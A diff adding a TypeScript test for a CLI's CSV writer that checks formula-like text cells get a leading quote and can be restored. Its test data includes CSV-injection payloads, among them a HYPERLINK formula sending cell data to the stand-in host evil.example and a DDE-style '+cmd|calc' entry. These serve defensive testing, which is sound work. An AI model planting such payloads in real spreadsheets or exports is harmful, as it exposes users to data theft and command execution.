@@ -7,6 +7,7 @@ import { PassThrough } from 'node:stream';
 import { openRankWriter, type OutputFormat, type RankRecord } from '../src/io/writers/index.js';
 import { chooseFormat } from '../src/cli/output.js';
 import { markdownCell } from '../src/io/writers/markdown.js';
+import { restoreCsvText } from '../src/io/writers/csv.js';
 import { renderTable, terminalSafe } from '../src/io/table.js';
 import { nodeAtomicFs, type AtomicFs } from '../src/io/atomic.js';
 import { discoverImages } from '../src/io/discover.js';
@@ -53,6 +54,31 @@ test('CSV round-trips commas, quotes and line breaks through an independent pars
     assert.deepEqual(row, [rec.path, rec.prompt, rec.score, rec.prob, rec.rank, rec.width, rec.height, rec.error, rec.contentHash].map(asText));
     if (rec.score !== null) assert.equal(Number(row[2]), rec.score, 'scores keep full precision');
   });
+});
+
+test('CSV: text cells a spreadsheet would run as formulas get a leading quote, numbers stay numbers, and restoreCsvText gives back the text', async () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|calc!A0.png', '-rf.png', '@SUM(1+1)', '\tTAB', '\rCR', "'=quoted", "''+twice", "'plain", 'plain'];
+  const written = ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+cmd|calc!A0.png", "'-rf.png", "'@SUM(1+1)", "'\tTAB", "'\rCR", "''=quoted", "'''+twice", "'plain", 'plain'];
+  const records: RankRecord[] = hostile.map((text, i) => ({
+    path: text, prompt: text, score: i % 2 ? -5.4 : 21.5, prob: 0.1, rank: i + 1, width: 2, height: 2, error: i % 2 ? text : null, contentHash: 'ab'.repeat(32),
+  }));
+  const file = path.join(await tempDir(), 'hostile.csv');
+  await writeAll('csv', file, records);
+  const [header, ...rows] = JSON.parse(
+    execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file], { encoding: 'utf8' }),
+  ) as string[][];
+  const column = (name: string): number => header.indexOf(name);
+  assert.equal(rows.length, hostile.length);
+  rows.forEach((row, i) => {
+    assert.equal(row[column('path')], written[i], `path ${JSON.stringify(hostile[i])}`);
+    assert.equal(row[column('prompt')], written[i], `prompt ${JSON.stringify(hostile[i])}`);
+    assert.equal(row[column('error')], i % 2 ? written[i] : '');
+    assert.equal(row[column('score')], i % 2 ? '-5.4' : '21.5', 'a negative score is a number, not neutralised');
+    assert.deepEqual([row[column('path')], row[column('prompt')]].map(restoreCsvText), [hostile[i], hostile[i]]);
+  });
+  for (const cell of rows.flatMap((row) => [row[column('path')], row[column('prompt')], row[column('error')]])) {
+    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no text cell begins a formula');
+  }
 });
 
 test('JSON is one document with schemaVersion, provenance, rows and the incomplete flag', async () => {
